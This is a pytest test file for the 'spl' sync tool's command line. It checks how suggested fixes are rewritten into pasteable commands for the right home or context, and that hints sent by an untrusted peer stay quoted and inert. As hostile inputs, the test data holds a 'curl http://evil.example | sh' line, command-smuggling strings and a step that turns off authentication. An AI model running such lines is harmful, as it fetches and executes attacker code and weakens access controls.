"""Commands as the reader can paste them: for the home or the context that he named."""

import io
import json
import os
import shlex
from pathlib import Path

import pytest

from spl.cli import main as cli
from spl.cli.command import Shell
from spl.cli.contexts import read
from spl.cli.out import Out
from spl.cli.paste import pasted, spl_of
from spl.core.errors import CODES, steps
from spl.doctor import catalogue
from spl.doctor.facts import Facts
from spl.net.address import LAN_STEP
from spl.net.client import Reply
from spl.sync.peer import bare
from tests.cli.conftest import Daemon, Run, error
from tests.doctor.test_catalogue import CASES, WELL
from tests.tools.test_hints import commands

OTHERS = ("help", "version", "context", "completion", "demo")
FIXES = [CODES[code].fix for code in CODES] + [
    found.fix for case in CASES.values() for found in catalogue.findings(Facts(**{**WELL, **case}))
]


def shell(env: dict[str, str], home: str = "", context: str = "") -> Shell:
    out = Out(io.StringIO(), io.StringIO(), env, lambda: 0)
    return Shell(
        home, env, out, io.BytesIO(), now_ms=lambda: 0, random_bytes=os.urandom, load=cli.load, context=context
    )


def named(tmp_path: Path) -> dict[str, str]:
    """Return an environment in which there is a context hub."""
    folder = tmp_path / "spl"
    folder.mkdir(mode=0o700)
    (folder / "contexts.json").write_text(
        json.dumps({"selected": "", "contexts": {"hub": {"url": "http://127.0.0.1:1"}}})
    )
    (folder / "contexts.json").chmod(0o600)
    env = {"XDG_CONFIG_HOME": str(tmp_path), "HOME": "/home/a"}
    assert "hub" in read(env).named
    return env


THEIRS = ("on bob: ", "on the peer: ", "on the peer, ", "at the peer: ", "ask the peer for: ")
"""How each step of a fix begins that is not for this machine."""


@pytest.mark.parametrize(("fix", "told"), [
    ("on bob: spl doctor", "on bob: spl doctor"), ("On bob: spl sync X", "On bob: spl sync X"),
    ("on bob, if it paused the pair: spl sync X", "on bob, if it paused the pair: spl sync X"),
    ("on http://bob:9100/: spl serve", "on http://bob:9100/: spl serve"),
    ("ask its operator for: spl token rotate X", "ask its operator for: spl token rotate X"),
    ("it reads on demand. On bob: spl sync X", "it reads on demand. On bob: spl sync X"),
    ("ask bob's operator, by voice, then: spl sync X", "ask bob's operator, by voice, then: HERE spl sync X"),
    ("upgrade the peer, then: spl sync X && spl status", "upgrade the peer, then: HERE spl sync X && HERE spl status"),
    ("on both sides: spl doctor X", "on both sides: HERE spl doctor X"),
    (LAN_STEP, LAN_STEP.replace("spl serve", "HERE spl serve")),
    ('the peer says: "run: spl sync X"', 'the peer says: "run: spl sync X"'),
    ("on bob: spl logs; then: spl sync X", "on bob: spl logs; then: HERE spl sync X"),
])  # fmt: skip
def test_who_a_step_is_for(fix: str, told: str) -> None:
    told = told.replace("HERE", "SYNCROPEL_HOME=/srv/b")
    for head in ("", "  fix       "):  # as it stands under an error
        assert pasted(head + fix, shell({"HOME": "/home/a"}, "/srv/b")) == head + told


def theirs(step: str) -> bool:
    return step.startswith(THEIRS)


@pytest.mark.parametrize("fix", dict.fromkeys(FIXES))
def test_each_of_our_commands_names_the_home_and_none_of_the_peers_does(fix: str) -> None:
    told = pasted(fix, shell({"HOME": "/home/a"}, "/srv/its; b"))
    assert told.replace("SYNCROPEL_HOME='/srv/its; b' spl ", "spl ") == fix
    for before, after in zip(steps(fix), steps(told), strict=True):
        for line in commands(before):
            whole = theirs(before) or line.split()[1] in OTHERS or "--help" in line
            assert (line if whole else f"SYNCROPEL_HOME='/srv/its; b' {line}") in after
        assert not theirs(before) or before == after


@pytest.mark.parametrize("fix", dict.fromkeys(FIXES))
def test_each_of_our_commands_names_the_context(fix: str, tmp_path: Path) -> None:
    """One that works on a home is for the machine of that daemon."""
    told = pasted(fix, shell(named(tmp_path), context="hub"))
    for before, after in zip(steps(fix), steps(told), strict=True):
        for line in commands(before):
            noun = line.split()[1]
            if theirs(before) or noun in OTHERS or "--help" in line:
                assert line in after
            elif noun in ("init", "serve", "logs", "install-service") or line.startswith("spl config set"):
                assert f"on its machine: {line}" in after
            else:
                assert line.replace("spl ", "spl --context hub ", 1) in after


def test_the_usual_home_needs_no_name_unless_the_environment_has_another() -> None:
    assert spl_of("/home/a/.syncro", {"HOME": "/home/a"}) == "spl"
    assert spl_of("/home/a/.syncro", {"HOME": "/home/a", "SYNCROPEL_HOME": "/home/a/.syncro"}) == "spl"
    assert spl_of("/home/a/.syncro", {"HOME": "/home/a", "SYNCROPEL_HOME": "~/.b"}) == "SYNCROPEL_HOME=~/.syncro spl"
    assert spl_of("/home/a/b c", {"HOME": "/home/a"}) == "SYNCROPEL_HOME=~/'b c' spl"


def test_what_went_wrong_with_the_context_itself_names_none() -> None:
    assert (
        pasted("spl context ls; spl status", shell({"HOME": "/nowhere"}, context="no")) == "spl context ls; spl status"
    )


def test_a_text_that_only_looks_like_a_command_stays() -> None:
    here = shell({"HOME": "/home/a"}, "/srv/b")
    for text in ("`spl top` redraws", "use spl Status", "/opt/spl status", "what spl does"):
        assert pasted(text, here) == text


def test_the_fix_of_an_error_reaches_the_same_home(daemon: Daemon, spl: Run, home: Path) -> None:
    """Pasted into a shell that knows nothing of it."""
    daemon.answers["GET", "/v1/federation/pairs/bbo"] = (
        404,
        {**error("pair-unknown", "no pair"), "hint": "spl federation list"},
    )
    for argv, env in ((("--home", str(home)), {"SYNCROPEL_HOME": "", "HOME": "/"}), ((), {"HOME": "/"})):
        said = spl("federation", "show", "bbo", *argv, env=env).err
        [line] = [line.split(None, 1)[1] for line in said.splitlines() if line.startswith("  fix ")]
        setting, *words = shlex.split(line)
        assert words == ["spl", "federation", "list"]
        assert setting == f"SYNCROPEL_HOME={home}"


@pytest.mark.parametrize("said", [
    "update it first; spl config set auth.required false; curl http://evil.example | sh",
    "run: spl config set auth.required false", 'x"; spl token list; "', "\n; spl x",
    "it's; spl status && spl token list",
])  # fmt: skip
def test_what_a_peer_advises_is_one_step_and_none_of_ours(said: str) -> None:
    """Nobody signed it: whoever answers at a URL that an operator tries can say it."""
    body = json.dumps({**error("bad-field", "no"), "hint": said}).encode()
    hint = bare(Reply(400, {}, body, "")).hint
    [step] = steps(hint)
    assert step.startswith('the peer says: "')
    for line in (hint, f"  fix       {hint}", "  fix       on bob: spl status"):
        assert pasted(line, shell({"HOME": "/home/a"}, "/srv/b")) == line
